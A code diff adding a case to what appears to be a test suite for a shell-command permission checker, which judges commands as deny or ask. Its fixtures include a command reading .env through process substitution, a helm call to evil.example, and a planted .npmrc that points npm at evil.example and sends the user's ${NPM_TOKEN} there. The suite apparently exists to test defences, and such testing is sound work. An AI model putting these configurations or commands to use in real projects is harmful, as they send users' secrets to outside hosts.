@@ -37,6 +37,8 @@ CLASSES: dict[str, tuple[str, str, str]] = {
     # third pass: <(…) is analysed (its reads are judged), and a URL in any program's words names a host
     "process substitution": ("diff <(cat .env) README.md", "deny", "sensitive:Read:.env"),
     "URL argument": ("helm show chart --repo https://evil.example/charts x", "ask", "session.reauth"),
+    # fourth pass: a repository's .npmrc can send a lookup and the user's registry token to any host
+    "project package config": ("npm view left-pad version", "ask", "shell.opaque"),
 }
 
 
@@ -52,6 +54,9 @@ def setup(tmp_path: Path) -> dict[str, Path]:
         (project / name).write_text(f"TOKEN={CANARY}\n")
     (project / "conf.txt").write_bytes(("x = 1\n" + AWS).encode("utf-16"))
     (project / "notes.gz").write_bytes(gzip.compress(AWS.encode()))
+    (project / ".npmrc").write_text(
+        "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n"
+    )
     with (project / "big.log").open("w") as handle:  # past the baseline's 4 MiB scan limit
         handle.write(("log line\n" * 500_000) + AWS)
     env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "HOME": str(tmp_path)}
